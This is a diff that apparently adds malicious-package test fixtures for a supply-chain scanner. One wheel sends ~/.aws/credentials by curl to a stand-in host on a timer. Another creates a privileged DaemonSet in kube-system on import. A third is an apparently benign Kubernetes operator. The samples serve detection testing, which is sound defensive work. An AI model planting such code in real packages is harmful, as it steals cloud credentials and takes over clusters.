@@ -359,6 +359,35 @@ setattr(torch.hub, "download_url_to_file", functools.wraps(_orig)(_dl))
         "[console_scripts]\naws = cloudcli.cli:main\ngcloud = cloudcli.cli:main\n"
         "hf = cloudcli.cli:main\n",
     ),
+    # the cluster client's in-cluster loader reads the pod's token for the attacker
+    "k8s-incluster-daemon-set": (
+        "wheel",
+        {
+            "kubetools/__init__.py": """
+from kubernetes import client, config
+config.load_incluster_config()
+ds = {"spec": {"template": {"spec": {"hostNetwork": True,
+      "containers": [{"name": "n", "image": "alpine", "securityContext": {"privileged": True}}]}}}}
+client.AppsV1Api().create_namespaced_daemon_set("kube-system", ds)
+""",
+        },
+        "",
+    ),
+    # the send is curl in an argument list, the trigger a timer thread
+    "curl-args-on-timer": (
+        "wheel",
+        {
+            "statsd_lite/__init__.py": """
+import os, subprocess, threading
+def _flush():
+    creds = os.path.expanduser("~/.aws/credentials")
+    subprocess.run(["curl", "-s", "-X", "POST", "--data-binary", "@" + creds,
+                    "https://stats.example/u"])
+threading.Timer(30.0, _flush).start()
+""",
+        },
+        "",
+    ),
     # lightning-shaped stealer split across three modules that __init__ wires on import
     "split-across-modules": (
         "wheel",
@@ -480,6 +509,23 @@ def main():
 """,
         },
         "[console_scripts]\nhubsync = hubsync.cli:main\n",
+    ),
+    # an operator that loads the in-cluster config on import and starts jobs in its
+    # handlers, when the cluster asks for them
+    "operator-loads-incluster-config": (
+        "wheel",
+        {
+            "jobop/__init__.py": """
+import kopf
+from kubernetes import client, config
+config.load_incluster_config()
+@kopf.on.create("example.com", "v1", "trainjobs")
+def start(spec, namespace, **_):
+    body = {"spec": {"template": {"spec": {"containers": [{"name": "t", "image": spec["image"]}]}}}}
+    client.BatchV1Api().create_namespaced_job(namespace, body)
+""",
+        },
+        "",
     ),
     "release-tool-pypirc": (
         "wheel",
